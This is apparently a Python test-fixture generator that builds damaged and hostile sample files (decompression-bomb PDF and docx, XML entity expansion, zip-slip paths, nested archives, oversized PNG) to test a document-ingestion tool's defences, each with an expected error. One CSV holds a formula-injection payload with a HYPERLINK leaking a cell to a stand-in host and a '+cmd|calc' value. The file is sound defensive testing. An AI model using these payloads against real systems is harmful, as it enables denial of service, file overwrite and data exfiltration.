"""Make the exhibits of the museum again: ``python tests/damaged/make_exhibits.py``.

Each is as small as it can be and broken in one way. Those that are too large for a repository are
made by the tests themselves, in a temporary folder. A file that somebody meets in the field needs
no line here: it is dropped into ``exhibits/`` with its ``NAME.toml``.
"""
# ruff: noqa: E501 - a table, an exhibit a line

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
from docx import Document
from fpdf import FPDF
from PIL import ExifTags, Image
from pypdf import PdfReader, PdfWriter

EXHIBITS = Path(__file__).parent / "exhibits"
ARABIC = (
    "الاسم;العمر;المصير\nسامر درو النوري;35;قتل\nلينا درو النوري;3;مفقودة\nهدى السلمان;61;قتل\n"
)
LIST = "Name,Age,Outcome\nAra Sel,34,killed\nBina Tor,~40,missing\n"
STATEMENT = (
    "The council was told on Friday. Nobody has answered since then, and the roads are shut.\n"
)
CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PARAGRAPH = (
    f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>The roads are shut.'
    "</w:t></w:r></w:p></w:body></w:document>"
)
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>'
)


def archive(members: Mapping[str, bytes | str], *, level: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", level) as package:
        for name, content in members.items():
            package.writestr(zipfile.ZipInfo(name), content, compress_type=level)
    return made.getvalue()


def pdf(*pages: str) -> bytes:
    document = FPDF()
    document.set_creation_date(datetime(2021, 3, 9, tzinfo=UTC))
    document.set_font("helvetica", size=12)
    for words in pages:
        document.add_page()
        if words:
            document.multi_cell(0, text=words)
    return bytes(document.output())


def locked_pdf(password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(STATEMENT))))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-128")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def raw_pdf(*objects: str) -> bytes:
    """A PDF of these objects, with a table of where they lie; the first is the catalogue."""
    made, places = b"%PDF-1.4\n", []
    for n, words in enumerate(objects, 1):
        places.append(len(made))
        made += f"{n} 0 obj\n".encode() + words.encode("latin-1") + b"\nendobj\n"
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n" + "".join(
        f"{place:010d} 00000 n \n" for place in places
    )
    trailer = (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(made)}\n%%EOF\n"
    )
    return made + table.encode() + trailer.encode()


def bomb_pdf() -> bytes:
    packed = zlib.compress(b"0 0 Td " * 30_000_000, 9)
    stream = f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode()
    start = raw_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R "
        "/Resources << /Font << /F 5 0 R >> >> >>",
        "PLACE",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )
    return start.replace(b"PLACE", stream + packed + b"\nendstream")


def docx(*paragraphs: str) -> bytes:
    document = Document()
    for words in paragraphs:
        document.add_paragraph(words)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def xlsx(fill: Callable[[openpyxl.Workbook], None]) -> bytes:
    workbook = openpyxl.Workbook()
    fill(workbook)
    made = io.BytesIO()
    workbook.save(made)
    return made.getvalue()


def people(workbook: openpyxl.Workbook) -> None:
    for row in (("Name", "Age", "Outcome"), ("Ara Sel", 34, "killed"), ("Bina Tor", 40, "missing")):
        workbook.active.append(row)


def formulas(workbook: openpyxl.Workbook) -> None:
    people(workbook)
    workbook.active["D2"] = "=B2+1"


def wide(workbook: openpyxl.Workbook) -> None:
    workbook.active["A1"] = "Name"
    workbook.active["XFD2"] = "far out"


def replaced(package: bytes, change: Mapping[str, Callable[[str], str] | None]) -> bytes:
    """The package with members changed, or left out where the change is None."""
    members: dict[str, str | bytes] = {}
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        for name in source.namelist():
            edit = change.get(name, lambda words: words)
            if edit is not None:
                raw = source.read(name)
                members[name] = edit(raw.decode()) if name in change else raw
    return archive(members)


def lying_size(package: bytes) -> bytes:
    """Every size that the archive states for what it unpacks to becomes 10."""
    made = bytearray(package)
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = made.find(mark)
        while place >= 0:
            struct.pack_into("<I", made, place + at, 10)
            place = made.find(mark, place + 4)
    return bytes(made)


def picture(kind: str, *, said: bool) -> bytes:
    made = io.BytesIO()
    exif = Image.Exif()
    if said:
        exif[ExifTags.Base.Model] = "Field Camera 2"
        exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = "2021:03:07 10:15:00"
        exif.get_ifd(ExifTags.IFD.GPSInfo).update(
            {1: "S", 2: (30.0, 21.0, 36.0), 3: "W", 4: (10.0, 0.0, 0.0)}
        )
    Image.new("RGB", (8, 8), "grey").save(made, kind, exif=exif)
    return made.getvalue()


def huge_png() -> bytes:
    """A picture that says it is 200,000 pixels wide and high, in 100 bytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checked = kind + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    header = struct.pack(">IIBBBBB", 200_000, 200_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def nested(depth: int) -> bytes:
    inner = archive({"note.txt": STATEMENT})
    for n in range(depth):
        inner = archive({f"{n}.zip": inner})
    return inner


def ole(words: str) -> bytes:
    """The beginning of an OLE container with a stream of this name."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + words.encode("utf-16-le")
        + b"\x00" * 64
    )


def exhibits() -> dict[str, tuple[bytes, str]]:
    """File name → its bytes, and the lines of its sidecar."""
    arabic_prose = "سقط ضحايا في القرية. لم يجب أحد. " * 20
    big = archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": " " * 30_000_000})
    return {
        "empty.txt": (b"", 'expect = "empty"'),
        "white-space.txt": (b" \n\t\r\n \xc2\xa0\n", 'expect = "empty"'),
        "random.bin": (random.Random(7).randbytes(4000), 'expect = "binary"'),
        "program": (b"\x7fELF" + bytes(200), 'expect = "unsupported"'),
        "arabic-cp1256.csv": (ARABIC.encode("cp1256"), 'contains = "سامر درو النوري"\nclaims = 9'),
        "arabic-utf16-no-mark.csv": (ARABIC.encode("utf-16-le"), 'contains = "هدى السلمان"\nclaims = 9'),
        "western-cp1252.txt": (
            ("L’école a été brûlée à Noël. " * 8).encode("cp1252"), 'contains = "L’école a été brûlée"'),
        "utf16-be-mark.txt": (b"\xfe\xff" + STATEMENT.encode("utf-16-be"), 'contains = "roads are shut"'),
        "utf8-mark.csv": (b"\xef\xbb\xbf" + LIST.encode(), 'contains = "Name\\tAge"\nclaims = 6'),
        "utf8-damaged.txt": (
            arabic_prose.encode()[:-2] + b"\xff", 'contains = "القرية"\nnotes = ["damaged-characters"]'),
        "surrogates-utf8.txt": (
            (arabic_prose + "\ud83d").encode("utf-8", "surrogatepass"), 'notes = ["damaged-characters"]'),
        "surrogates-utf16.txt": (
            b"\xff\xfe" + (STATEMENT + "\ud83d").encode("utf-16-le", "surrogatepass"),
            'notes = ["damaged-characters"]'),
        "nul-in-cells.csv": (
            LIST.replace("Ara", "A\x00ra").encode(), 'notes = ["control-characters"]\nclaims = 6'),
        "one-long-line.txt": (b"No answer came. " * 6000, 'contains = "No answer came."'),
        "old-macintosh-breaks.csv": (LIST.replace("\n", "\r").encode(), "claims = 6"),
        "right-to-left-marks.csv": (
            LIST.replace("Ara Sel", "\u202bسامر درو\u202c\u200f").encode(), 'contains = "سامر درو"\nclaims = 6'),
        "formulas.csv": (
            b'Name,Outcome,Note\n"=HYPERLINK(""http://x.example/?a=""&A1)",killed,+cmd|calc\nBina,killed,\n',
            'notes = ["formula"]\ncontains = "=HYPERLINK("\nclaims = 4'),
        "totals-and-two-headers.csv": (
            b"Killed in Sel Maran,,,\nVictim,,Event,\nName,Age,Date,Place\nAra Sel,34,2021-03-07,Tel Adan\n"
            b"Bina Tor,3,2021-03-07,\n\nName,Age,Date,Place\nUnknown man,,,\nTotal,3,,\n",
            'claims = 7\nnotes = ["repeated-header", "totals-row"]'),
        "ragged.csv": (
            LIST.encode() + b"Cala,Dun,22,killed,and,more\nDen\n", 'notes = ["ragged"]'),
        "unclosed-quote.csv": (
            b'Name,Outcome\n"Ara Sel,killed\n' + b"Bina Tor,killed\n" * 40, 'notes = ["swallowed-rows"]'),
        "header-only.csv": (b"Name,Age,Outcome\n", 'claims = 0'),
        "empty-cells.csv": (b",,,\n,,,\n", 'expect = "empty"'),
        "no-list.csv": (b"colour,shade\nred,dark\n", 'claims = 0\nnotes = ["no-mapping"]'),
        "nobody-says-what.csv": (b"Name,Age\nAra Sel,34\n", 'claims = 2\nnotes = ["harm-not-said"]'),
        "truncated.pdf": (pdf(STATEMENT)[:-300], 'expect = "truncated"'),
        "locked.pdf": (locked_pdf("secret"), 'expect = "password"'),
        "locked-with-nothing.pdf": (locked_pdf(""), 'contains = "roads are shut"'),
        "scan.pdf": (pdf("", ""), 'expect = "no-text"'),
        "half-scan.pdf": (pdf(STATEMENT, ""), 'notes = ["no-text"]\ncontains = "roads are shut"'),
        "garbage.pdf": (b"%PDF-1.7\n" + random.Random(8).randbytes(900) + b"\n%%EOF\n", 'expect = "damaged-pdf"'),
        "loop-in-page-tree.pdf": (
            raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                    "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"),
            'expect = "damaged-pdf"'),
        "bomb.pdf": (bomb_pdf(), 'expect = "zip-bomb"'),
        "named-as-text.txt": (pdf(STATEMENT), 'contains = "roads are shut"'),
        "truncated.docx": (docx(STATEMENT)[:-2000], 'expect = "truncated"'),
        "without-document.docx": (
            archive({"[Content_Types].xml": CONTENT_TYPES, "word/styles.xml": "<s/>"}), 'expect = "no-text"'),
        "without-words.docx": (docx("", " "), 'expect = "no-text"'),
        "locked.docx": (ole("EncryptedPackage"), 'expect = "password"'),
        "old.doc": (ole("WordDocument"), 'expect = "unsupported"'),
        "entities.docx": (
            archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": ENTITIES}),
            'expect = "xml-entities"'),
        "no-xml.docx": (
            archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<a><b></a>"}),
            'expect = "truncated"'),
        "zip-bomb.docx": (big, 'expect = "zip-bomb"'),
        "zip-bomb-that-lies.docx": (lying_size(big), 'expect = "truncated"'),
        "many-members.docx": (
            archive({"word/document.xml": PARAGRAPH} | {f"word/{n}.xml": "" for n in range(5001)}),
            'expect = "zip-bomb"'),
        "zip-slip.docx": (
            archive({"[Content_Types].xml": CONTENT_TYPES, "../../escaped.xml": "<x/>",
                     "word/document.xml": PARAGRAPH}),
            'contains = "roads are shut"'),
        "nested.zip": (nested(6), 'expect = "unsupported"'),
        "zip-slip.zip": (archive({"../../../escaped.txt": STATEMENT}), 'expect = "unsupported"'),
        "truncated.xlsx": (xlsx(people)[:-900], 'expect = "truncated"'),
        "without-workbook.xlsx": (
            replaced(xlsx(people), {"xl/workbook.xml": None}), 'expect = "damaged-workbook"'),
        "formula-without-value.xlsx": (xlsx(formulas), 'notes = ["formula"]\nclaims = 6'),
        "wide.xlsx": (xlsx(wide), 'expect = "too-large"'),
        "column-beyond-the-last.xlsx": (
            replaced(xlsx(people), {"xl/worksheets/sheet1.xml": lambda w: w.replace('r="A1"', 'r="BMNOPQ1"')}),
            'expect = "damaged-workbook"'),
        "boastful-size.xlsx": (
            replaced(xlsx(people), {"xl/worksheets/sheet1.xml":
                     lambda w: w.replace('ref="A1:C3"', 'ref="A1:XFD1048576"')}),
            "claims = 6"),
        "entities.xlsx": (
            replaced(xlsx(people), {"xl/worksheets/sheet1.xml":
                     lambda w: '<!DOCTYPE s [<!ENTITY a "b">]>' + w.split("?>")[-1]}),
            'expect = "xml-entities"'),
        "nothing.xlsx": (xlsx(lambda workbook: None), 'expect = "empty"'),
        "locked.xlsx": (ole("EncryptedPackage"), 'expect = "password"'),
        "camera.jpg": (
            picture("JPEG", said=True),
            'contains = "Taken: 2021:03:07 10:15:00"'),
        "no-facts.jpg": (picture("JPEG", said=False), 'expect = "no-text"'),
        "truncated.jpg": (picture("JPEG", said=False)[:12], 'expect = "damaged-picture"'),
        "huge.png": (huge_png(), 'expect = "damaged-picture"'),
        "phone.heic": (b"\x00\x00\x00\x18ftypheic" + bytes(60), 'expect = "unsupported"'),
        "script-only.html": (
            b"<!doctype html><html><head><title>T</title></head><body><script>x()</script></body></html>",
            'expect = "no-text"'),
        "deep.html": (
            b"<!doctype html><html><body>" + b"<div>" * 5000 + STATEMENT.encode() + b"</div>" * 5000,
            'contains = "roads are shut"'),
        "wrong-charset.html": (
            "<!doctype html><html><head><meta charset='utf-8'></head><body><p>L’école a été brûlée à "
            "Noël, et personne n’a répondu à la famille.</p></body></html>".encode("cp1252"),
            'contains = "L’école a été brûlée"'),
        "nothing-but-tags.html": (b"<!doctype html><html><body><div></div></body></html>", 'expect = "no-text"'),
        "archive.warc": (b"WARC/1.0\r\nWARC-Type: warcinfo\r\nContent-Length: 0\r\n\r\n\r\n", 'expect = "unsupported"'),
        "records.json": (b'[{"name": "Ara Sel"}]', 'expect = "unsupported"'),
    }  # fmt: skip


def main() -> None:
    EXHIBITS.mkdir(exist_ok=True)
    for name, (content, sidecar) in exhibits().items():
        (EXHIBITS / name).write_bytes(content)
        (EXHIBITS / f"{name}.toml").write_text(sidecar + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
